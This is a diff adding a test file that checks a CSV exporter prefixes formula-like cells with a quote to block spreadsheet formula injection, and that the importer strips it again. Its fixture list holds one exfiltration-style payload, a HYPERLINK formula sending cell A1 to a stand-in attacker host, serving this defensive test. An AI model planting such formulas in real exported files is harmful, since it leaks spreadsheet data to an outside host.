@@ -1,0 +1,53 @@
+// The CSV the exports write and the import reads: a cell a spreadsheet would run as a formula is
+// written as text, and comes back as it was.
+import t from 'tap'
+import { parse } from 'csv-parse/sync'
+import { csvRows, parseCsv } from '../../runtime/csv.ts'
+
+const names = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  '+1 spare',
+  '-10% off',
+  '@SUM(A1)',
+  '\tTabbed',
+  '\rReturn',
+]
+
+/** The fields exactly as written, quote included: csv-parse itself, without parseCsv's care. */
+const parseCsvRaw = (text: string): string[][] => parse(text)
+
+t.test(
+  'a text a spreadsheet would run as a formula is written with a quote before it',
+  async (t) => {
+    const text = csvRows([
+      ['sku', 'name', 'onHand'],
+      ...names.map((name, i) => [`S${i}`, name, -i]),
+    ])
+    const lines = parseCsvRaw(text)
+    for (const [i, name] of names.entries()) {
+      t.equal(lines[i + 1][1], `'${name}`, `${JSON.stringify(name)} as text`)
+      t.equal(lines[i + 1][2], String(-i), 'a number is left alone, even negative')
+    }
+    t.equal(
+      csvRows([['BOLT-M8', 'Bolt = M8', "it's"]]),
+      "BOLT-M8,Bolt = M8,it's\r\n",
+      'other text as it is'
+    )
+  }
+)
+
+t.test(
+  'the import takes the quote off again: an export reads back as it was written',
+  async (t) => {
+    const rows = [['sku', 'name'], ...names.map((name, i) => [`S${i}`, name])]
+    t.same(
+      parseCsv(csvRows(rows)).map((r) => r.fields),
+      rows
+    )
+    t.same(
+      parseCsv("sku,name\r\nA,'plain\r\n")[1].fields,
+      ['A', "'plain"],
+      'a quote before other text stays'
+    )
+  }
+)
